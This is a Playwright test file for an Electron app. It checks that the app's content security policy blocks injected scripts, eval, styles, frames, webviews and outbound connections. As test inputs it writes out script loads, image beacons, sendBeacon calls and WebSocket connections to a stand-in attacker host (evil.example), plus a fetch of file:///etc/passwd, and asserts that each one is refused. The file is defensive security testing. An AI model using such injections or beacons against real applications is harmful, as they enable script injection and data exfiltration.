import { expect, test } from 'playwright/test';
import { newFolder, openApp } from './app';

test('the content policy lets no foreign script, style, frame or connection in', async () => {
  const { app, page } = await openApp(newFolder());
  await app.evaluate(({ session }) => {
    const urls: string[] = [];
    Reflect.set(globalThis, 'sentRequests', urls);
    session.defaultSession.webRequest.onSendHeaders(({ url }) => {
      if (!url.startsWith('app://bundle/')) urls.push(url);
    });
  });
  const seen = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      violations.push(event.effectiveDirective);
    });
    const attempt = (work: () => void): string => {
      try {
        work();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'thrown';
      }
    };
    const add = (tag: string, set: (element: HTMLElement) => void): HTMLElement => {
      const element = document.createElement(tag);
      set(element);
      return document.body.appendChild(element);
    };
    const attempts = {
      inline: attempt(() => add('script', (element) => (element.textContent = 'window.__ran = 1'))),
      remote: attempt(() =>
        add('script', (element) => Reflect.set(element, 'src', 'https://evil.example/x.js')),
      ),
      markup: attempt(() => (document.body.innerHTML += '<b>x</b>')),
      handler: attempt(() =>
        add('div', (element) => element.setAttribute('onclick', 'window.__ran = 1')).click(),
      ),
      write: attempt(() => document.write('<p>x</p>')),
    };
    // Later, as a page's own script: within a test's call the debugger allows it.
    const evaluated = await new Promise<string>((resolve) => {
      setTimeout(() =>
        resolve(attempt(() => void Reflect.apply(Reflect.get(globalThis, 'eval'), null, ['1']))),
      );
    });
    add('style', (element) => (element.textContent = 'body { display: none !important }'));
    const frame = add('iframe', (element) => Reflect.set(element, 'src', 'https://evil.example/'));
    const image = add('img', (element) => Reflect.set(element, 'src', 'https://evil.example/beacon.png'));
    const webview = add('webview', (element) => element.setAttribute('src', 'https://evil.example/'));
    await Promise.all([
      new Promise((resolve) => frame.addEventListener('load', resolve)),
      new Promise((resolve) => image.addEventListener('error', resolve)),
    ]);
    const outcome = async (work: Promise<unknown>): Promise<string> =>
      work.then(
        () => 'done',
        () => 'refused',
      );
    navigator.sendBeacon('https://evil.example/', 'x');
    const connections = {
      https: await outcome(fetch('https://example.com')),
      http: await outcome(fetch('http://127.0.0.1:9/')),
      file: await outcome(fetch('file:///etc/passwd')),
      beyond: await outcome(
        fetch('app://print/x').then((reply) => (reply.ok ? reply : Promise.reject(reply))),
      ),
      socket: await new Promise<string>((resolve) => {
        try {
          const socket = new WebSocket('wss://evil.example/');
          socket.addEventListener('open', () => resolve('done'));
          socket.addEventListener('error', () => resolve('refused'));
        } catch {
          resolve('refused');
        }
      }),
    };
    const ran = Reflect.has(window, '__ran');
    return {
      attempts: { ...attempts, eval: evaluated },
      connections,
      ran,
      hidden: getComputedStyle(document.body).display === 'none',
      webview: webview instanceof HTMLUnknownElement || webview.constructor === HTMLElement,
      violations: [...new Set(violations)].toSorted(),
    };
  });
  expect(seen).toMatchObject({ ran: false, hidden: false, webview: true });
  expect(seen.attempts).toMatchObject({ inline: 'TypeError', remote: 'TypeError', markup: 'TypeError' });
  expect(seen.attempts).toMatchObject({ handler: 'TypeError', eval: 'EvalError', write: 'TypeError' });
  expect([...new Set(Object.values(seen.connections))]).toEqual(['refused']);
  const sent: unknown = await app.evaluate(() => Reflect.get(globalThis, 'sentRequests'));
  expect(sent).toEqual([]);
  for (const directive of ['connect-src', 'frame-src', 'img-src', 'style-src-elem'])
    expect(seen.violations).toContain(directive);
  await app.close();
});
